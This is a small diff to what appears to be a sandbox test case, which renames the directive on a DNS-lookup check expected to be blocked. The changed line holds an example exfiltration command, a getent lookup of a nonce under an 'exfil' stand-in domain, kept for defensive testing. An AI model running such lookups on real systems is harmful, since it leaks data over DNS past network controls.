@@ -2,4 +2,4 @@
 # expect: blocked
 # control: sandbox
 # reason: a DNS lookup carries data to whoever serves the name; the sandbox has no resolver it can reach
-attempt getent hosts "$nonce.exfil.example.com"
+offhost getent hosts "$nonce.exfil.example.com"
